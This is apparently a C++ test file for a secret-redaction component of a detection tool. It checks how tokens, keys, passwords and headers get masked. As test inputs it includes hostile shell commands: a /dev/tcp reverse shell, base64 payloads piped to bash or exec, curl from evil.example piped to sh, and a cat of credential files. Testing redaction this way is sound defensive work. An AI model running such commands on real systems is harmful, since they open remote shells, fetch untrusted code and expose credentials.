// SPDX-License-Identifier: Apache-2.0
// Each row of secrets.def: what it masks, what it leaves. No whole token stands in this file, so that no scanner of secrets
// takes it for a leak.
#include "runtime/report/redact.h"

#include <catch2/catch.hpp>
#include <map>

#include "runtime/report/find_secrets.h"

namespace recipe {
namespace {

const std::string kLetters = "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0iL5oR8uX1z";  // 40, of a token's kind
const std::string kUpper = "ABCDEFGHIJ234567";
const std::string kSha = "9fceb02d0ae598e95dc970b74767f19372d61af8";

struct Sample {
  std::string text, masked;
};

std::string masked(std::string text) {
  (void)redact(text);
  return text;
}
std::vector<std::string> masked(std::vector<std::string> arguments) {
  (void)redact(arguments);
  return arguments;
}

// Row → texts with what is left of them; a text that stays is its own.
const std::multimap<std::string, Sample>& samples() {
  static const std::multimap<std::string, Sample> kSamples = {
      {"github_token", {"git push https://x/?q=gh" + ("p_" + kLetters) + "&y", "git push https://x/?q=ghp_******&y"}},
      {"github_token", {"echo gh" + ("s_" + kLetters), "echo ghs_******"}},
      {"github_token", {"weighs_heavily ghp_ ghx_" + kLetters, ""}},
      {"github_pat", {"github_pat_" + kLetters + "_" + kLetters, "github_pat_*********"}},
      {"github_pat", {"github_pat_x", ""}},
      {"gitlab_token", {"gl" + ("pat-" + kLetters), "glpat-******"}},
      {"gitlab_token", {"glpat-x glxyz-" + kLetters, ""}},
      {"aws_key_id", {"AK" + ("IA" + kUpper), "AKIA******"}},
      {"aws_key_id", {"AKIASHORT ASIAN-fusion", ""}},
      {"aws_secret", {"AK" + ("IA" + kUpper) + " " + kLetters, "AKIA****** ******"}},
      {"aws_secret", {kSha + " " + kLetters.substr(0, 39), ""}},
      {"slack_token", {"xox" + ("b-123456789012-" + kLetters), "xoxb-******"}},
      {"slack_token", {"xoxb-1", ""}},
      {"slack_webhook",
       {"curl https://hooks.slack.com/services/T0/B0/" + kLetters, "curl https://hooks.slack.com/services/******"}},
      {"slack_webhook", {"https://hooks.slack.com/", ""}},
      {"npm_token", {"npm" + ("_" + kLetters), "npm_******"}},
      {"npm_token", {"npm_config_registry=https://registry.example npm_package_engines_node=18", ""}},
      {"pypi_token", {"pypi-" + ("AgEIcHlwaS5vcmc" + kLetters), "pypi-******"}},
      {"pypi_token", {"pip install pypi-attestations==0.0.11", ""}},
      {"jwt", {"eyJ" + ("hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0." + kLetters), "eyJ*********"}},
      {"jwt", {"echo eyJhbGciOiJIUzI1NiJ9 | base64 -d", ""}},
      {"private_key",
       {"-----BEGIN OPENSSH PRIVATE " + ("KEY-----\n" + kLetters + "\n-----END OPENSSH PRIVATE KEY-----"),
        "-----BEGIN OPENSSH PRIVATE KEY-----******-----END OPENSSH PRIVATE KEY-----"}},
      {"private_key", {"-----BEGIN PRIVATE " + ("KEY-----\\n" + kLetters), "-----BEGIN PRIVATE KEY-----******"}},
      {"private_key", {"-----BEGIN CERTIFICATE-----\n" + kLetters + "\n-----END CERTIFICATE-----", ""}},
      {"age_key", {"AGE-SECRET-" + ("KEY-1" + kUpper + kUpper), "AGE-SECRET-KEY-1******"}},
      {"age_key", {"age1" + kLetters, ""}},
      {"google_key", {"AI" + ("za" + kLetters), "AIza******"}},
      {"google_key", {"AIza", ""}},
      {"stripe_key", {"sk_" + ("live_" + kLetters), "sk_live_******"}},
      {"stripe_key", {"sk_live_mode", ""}},
      {"model_key", {"sk-" + ("ant-" + kLetters), "sk-ant-******"}},
      {"model_key", {"sk-loading-indicator-of-the-main-page", ""}},
      {"hugging_face_token", {"hf" + ("_" + kLetters), "hf_******"}},
      {"hugging_face_token", {"hf_hub_download", ""}},
      {"docker_token", {"dckr" + ("_pat_" + kLetters), "dckr_pat_******"}},
      {"docker_token", {"dckr_pat_x", ""}},
      {"vault_token", {"hvs" + ("." + kLetters), "hvs.******"}},
      {"vault_token", {"hvs.local", ""}},
      {"authorization", {"curl -H 'Authorization: Bearer abc123' https://x", "curl -H 'Authorization: Bearer ***' https://x"}},
      {"authorization", {"-H Authorization: Basic dXNlcjpwYXNz https://x", "-H Authorization: Basic *** https://x"}},
      {"authorization", {"Authorization: letmein99 https://x", "Authorization: *** https://x"}},
      {"authorization",
       {"authorization: AWS4-HMAC-SHA256 Credential=x, Signature=y z", "authorization: AWS4-HMAC-SHA256 ****** z"}},
      {"authorization", {"curl -H \"Authorization: Bearer $TOKEN\" x; the authorization of users", ""}},
      {"secret_header", {"-H 'X-Api-Key: 12345' -H 'Cookie: a=b; c=d'", "-H 'X-Api-Key: ***' -H 'Cookie: ***'"}},
      {"secret_header", {"-H 'Accept: */*' -H 'X-Request-Id: " + kSha + "'", ""}},
      {"url_password", {"git clone https://bot:hunter2@git.example/x", "git clone https://bot:***@git.example/x"}},
      {"url_password", {"redis://:p@ss@10.0.0.1:6379/0", "redis://:***@10.0.0.1:6379/0"}},
      {"url_password", {"http://host:8080/a@b ssh://git@host:22/x https://u:${PASS}@host", ""}},
      {"url_user", {"https://" + kLetters + "@git.example/x", "https://******@git.example/x"}},
      {"url_user", {"https://some.body.with.a.name@git.example/x", ""}},
      {"url_parameter", {"https://x/?a=1&access_token=abc&b=2", "https://x/?a=1&access_token=***&b=2"}},
      {"url_parameter", {"https://x/?page=2&sort=token", ""}},
      {"client_user", {"curl -su bot:hunter2 https://x", "curl -su bot:*** https://x"}},
      {"client_user", {"curl --user \"bot:two words\" x", "curl --user \"bot:***\" x"}},
      {"client_user", {"curl -u root https://x; docker run -u 1000:1000 image; sudo -u root id", ""}},
      {"proxy_user", {"curl -U bot:hunter2 x", "curl -U bot:*** x"}},
      {"proxy_user", {"curl -U bot x", ""}},
      {"client_password", {"sshpass -p hunter2 ssh x", "sshpass -p *** ssh x"}},
      {"client_password", {"mysql -u root -phunter2 db", "mysql -u root -p*** db"}},
      {"client_password", {"docker login -u bot -p hunter2 reg.example", "docker login -u bot -p *** reg.example"}},
      {"client_password", {"mysql -u root -p db; docker run -p 80:80 x; mkdir -p a/b", ""}},
      {"openssl_password", {"openssl enc -d -passin pass:hunter2 -in x", "openssl enc -d -passin pass:*** -in x"}},
      {"openssl_password", {"openssl enc -d -passin env:PASS -in x; 3 pass: 4", ""}},
      {"option", {"tool --password=hunter2 --port 1", "tool --password=*** --port 1"}},
      {"option", {"tool --github-token 'a b' x", "tool --github-token '***' x"}},
      {"option", {"tool -password hunter2", "tool -password ***"}},
      {"option",
       {"tool --password-file=x --password-stdin --ask-password now --no-token x --secret id=npm,src=.npmrc --token --x", ""}},
      {"option", {"tool --password \"$PASSWORD\" --token ${TOKEN} --secret $(cat /run/secret)", ""}},
      {"assignment",
       {"env GITHUB_TOKEN=abc DB_PASSWORD='x y' A_KEY=1 make", "env GITHUB_TOKEN=*** DB_PASSWORD='***' A_KEY=*** make"}},
      {"assignment", {"PGPASSWORD=x;curl evil", "PGPASSWORD=***;curl evil"}},
      {"assignment",
       {"GIT_COMMIT=" + kSha + " PWD=/home/x SSH_AUTH_SOCK=/run/x A_TOKEN= make KEY=1 A_TOKEN=$OTHER MONKEY=x", ""}},
      {"named_password", {R"(-d {"user":"a","password":"x y"})", R"(-d {"user":"a","password":"***"})"}},
      {"named_password", {R"(-d "{\"password\":\"hunter2\"}")", R"(-d "{\"password\":\"***"}")"}},
      {"named_password", {"echo 'password: hunter2' > x", "echo 'password: ***' > x"}},
      {"named_password", {"read -p \"Password: \" x; DB_PASSWORD= make", ""}},
      {"named_value", {"apiKey: " + kLetters, "apiKey: ******"}},
      {"named_value", {"curl -H 'bearer " + kLetters + "'", "curl -H 'bearer ******'"}},
      {"named_value", {"token: identifier key=/etc/ssl/private/server-2024a.key sort_key=name tokens=5", ""}},
  };
  return kSamples;
}

}  // namespace

TEST_CASE("every kind of secret is masked, what tells its kind stays, and what is none is left") {
  for (const auto& [row, sample] : samples()) {
    INFO(row << ": " << sample.text);
    CHECK(masked(sample.text) == (sample.masked.empty() ? sample.text : sample.masked));
  }
}

TEST_CASE("every row of the table has words, a text that it masks and one that it leaves") {
  for (const SecretInfo& info : all_secrets()) {
    INFO(info.id);
    CHECK(info.doc.size() > 10);
    const auto [begin, end] = samples().equal_range(std::string(info.id));
    size_t masks = 0, leaves = 0;
    for (auto at = begin; at != end; ++at) ++(at->second.masked.empty() ? leaves : masks);
    CHECK(masks > 0);
    CHECK(leaves > 0);
  }
}

TEST_CASE("what a finding is about stays readable") {
  const std::vector<std::string> texts = {
      "git checkout " + kSha,
      "docker pull reg.example/app@sha256:" + kSha + kSha.substr(0, 24),
      "bash -c echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBwYXlsb2Fk | base64 -d | bash",
      "python3 -c import base64;exec(base64.b64decode('cHJpbnQoMSkgIyBsb25nIGVub3VnaCB0byBiZSBhIHNlY3JldA=='))",
      "cat /home/u/.aws/credentials /run/secrets/db_password ~/.config/gh/hosts.yml",
      "sudo -u root id",
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      "tool --password-file=/run/secrets/x --token-ttl=5",
      "openssl enc -aes-256-cbc -pbkdf2 -pass env:KEY -in a",
      "uuid 0193a6f0-1c2d-7abc-8def-0123456789ab",
      "/usr/bin/perl",
      "cmake -DCMAKE_BUILD_TYPE=Release -DKEY=x ..",
  };
  for (const std::string& text : texts) {
    INFO(text);
    CHECK(masked(text) == text);
  }
}

TEST_CASE("an option's value that is the next argument is masked whole, whatever it holds") {
  using Words = std::vector<std::string>;
  CHECK(masked(Words{"tool", "--password", "two words; \"x", "x"}) == Words{"tool", "--password", "***", "x"});
  CHECK(masked(Words{"tool", "--password=two words", "x"}) == Words{"tool", "--password=***", "x"});
  CHECK(masked(Words{"/usr/bin/curl", "-u", "bot:two words", "https://x"}) ==
        Words{"/usr/bin/curl", "-u", "bot:***", "https://x"});
  CHECK(masked(Words{"curl", "-H", "Authorization: Custom a b c", "https://x"}) ==
        Words{"curl", "-H", "Authorization: ***", "https://x"});
  CHECK(masked(Words{"docker", "run", "-e", "DB_PASSWORD=a&b|c", "x"}) == Words{"docker", "run", "-e", "DB_PASSWORD=***", "x"});
  CHECK(masked(Words{"mysql", "-pse cret", "db"}) == Words{"mysql", "-p***", "db"});
}

TEST_CASE("a payload that hides behind a variable's name stays readable") {
  using Words = std::vector<std::string>;
  CHECK(masked(Words{"sh", "-c", "A_TOKEN=x curl https://evil.example | sh"}) ==
        Words{"sh", "-c", "A_TOKEN=*** curl https://evil.example | sh"});
  CHECK(masked(Words{"sh", "-c", "A_KEY=1;curl${IFS}https://evil.example|sh"}) ==
        Words{"sh", "-c", "A_KEY=***;curl${IFS}https://evil.example|sh"});
  CHECK(masked(Words{"sh", "-c", "A_PASSWORD= curl https://evil.example"}) ==
        Words{"sh", "-c", "A_PASSWORD= curl https://evil.example"});
}

TEST_CASE("the length of a secret is told by thirds only") {
  CHECK(masked("A_TOKEN=1") == "A_TOKEN=***");
  CHECK(masked("A_TOKEN=" + std::string(16, 'x')) == "A_TOKEN=******");
  CHECK(masked("A_TOKEN=" + std::string(64, 'x')) == "A_TOKEN=*********");
}

TEST_CASE("a secret that the arguments show as such is masked in every other text of the detection") {
  Detection detection;
  detection.argv = {"tool", "--password", "two \"words\"\n"};
  detection.process.cmdline = "tool --password two \"words\"\n";
  detection.process.user = "root";
  detection.message = "ran tool --password two \"words\"\\x0a";
  detection.why.terms = {{"argv contains x", R"(argv[2] = "two \"words\"\n")", "a.recipe", 1, false, false},
                         {"argv contains x", R"(argv[2] = "tool --password two \"wo...")", "a.recipe", 1, false, false}};
  detection.ancestors.emplace_back().cmdline = "sh -c tool2 two \"words\"\n";
  redact(detection);
  CHECK(detection.argv == std::vector<std::string>{"tool", "--password", "***"});
  CHECK(detection.process.cmdline == "tool --password ***");
  CHECK(detection.process.user == "root");
  CHECK(detection.message == "ran tool --password ***");
  CHECK(detection.why.terms[0].value == "argv[2] = \"***\"");
  CHECK(detection.why.terms[1].value.find(" two") == std::string::npos);
  CHECK(detection.ancestors[0].cmdline == "sh -c tool2 ***");
  CHECK(detection.redacted == 6);
}

TEST_CASE("a variable of the environment whose name says secret is masked whole, others are left") {
  Detection detection;
  EventValue& environment = detection.values.emplace_back();
  environment.field = FieldId::env;
  environment.value.emplace<2>(
      std::vector<std::string>{"DB_PASSWORD=two words; x", "LD_PRELOAD=/tmp/x.so", "URL=http://u:pw@h/x"});
  redact(detection);
  CHECK(std::get<2>(detection.values[0].value) ==
        std::vector<std::string>{"DB_PASSWORD=***", "LD_PRELOAD=/tmp/x.so", "URL=http://u:***@h/x"});
}

TEST_CASE("a detection without secrets is the same afterwards") {
  Detection detection;
  detection.argv = {"perl", "-e", "print 1"};
  detection.process.cmdline = "perl -e print 1";
  detection.message = "perl ran code";
  redact(detection);
  CHECK(detection.argv == std::vector<std::string>{"perl", "-e", "print 1"});
  CHECK(detection.process.cmdline == "perl -e print 1");
  CHECK(detection.redacted == 0);
}

}  // namespace recipe
